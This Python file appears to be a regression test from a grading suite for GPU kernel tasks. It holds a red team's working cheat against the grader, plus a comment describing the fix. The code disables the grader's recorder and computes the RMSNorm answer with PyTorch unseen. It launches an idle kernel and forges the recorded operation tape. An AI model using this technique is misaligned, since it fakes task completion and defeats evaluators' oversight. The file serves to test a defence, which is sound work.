# Exploit: forge the tape with op names whose overload part is not an overload. The replayer used to look an op up
# as getattr(getattr(torch.ops.aten, NAME), OVERLOAD) and the policy checked only NAME, so "aten.unfold.__init__"
# passed for an allowed op and re-initialised PyTorch's own `unfold` packet, in the trusted replayer, as another
# operator (here aten::rms_norm); the next "aten.unfold.default" then computed the answer there. Any registered
# operator could be reached this way, aten::from_file too (a file written by the replayer). Found by a red team on
# 2026-12-06: 60/60 on rmsnorm's forward, full marks on gelu, softmax and the transpose with an idle kernel.
# Defence: an op name is exactly aten.<op>.<overload>, the overload one of that op's own (its schema names it), in
# the grader's check of the tape and in the replay. Written for RMSNorm (the first assignment, where the suite runs
# it): the defence does not depend on what the op computes.
import inspect as _inspect

import torch as _torch
import triton as _triton
import triton.language as tl
from torch.utils._python_dispatch import _get_current_dispatch_mode as _current_mode


@_triton.jit
def _idle_kernel(x_ptr):
    pass


def _records():
    return _inspect.unwrap(type(_current_mode()).__torch_dispatch__).__globals__


def _cheat(honest, name):
    assert SLUG == "rmsnorm", "written for RMSNorm's forward"  # noqa: F821  (given by the test)

    def cheat(x, weight, eps=1e-6):
        records = _records()
        watch = records["_WATCH"]
        records["_WATCH"] = None
        try:
            y = _torch.ops.aten.rms_norm.default(x, [x.shape[-1]], weight, eps)  # the worker's answer, unseen
        finally:
            records["_WATCH"] = watch
        _idle_kernel[(1,)](x)
        tape = getattr(watch, "tape", None)
        if tape is not None:
            records["_WATCH"] = None
            try:
                launches = [e for e in tape.entries if e.get("kind") == "launch"]
                x_ref, w_ref, y_ref = tape.ref(x, "input"), tape.ref(weight, "input"), tape.ref(y, "created")
                op = lambda name, args, out=None: {"kind": "op", "op": name, "args": args, "kwargs": {}, "out": out}  # noqa: E731
                tape.entries[:] = [
                    op("aten.unfold.__setattr__", ["default", 0]),
                    op("aten.unfold.__delattr__", ["default"]),
                    op("aten.unfold.__init__", ["aten::rms_norm", "rms_norm", 0, [""]]),
                    op("aten.unfold.default", [x_ref, [int(x.shape[-1])], w_ref, float(eps)], y_ref),
                ] + launches
            finally:
                records["_WATCH"] = watch
        return y

    return cheat
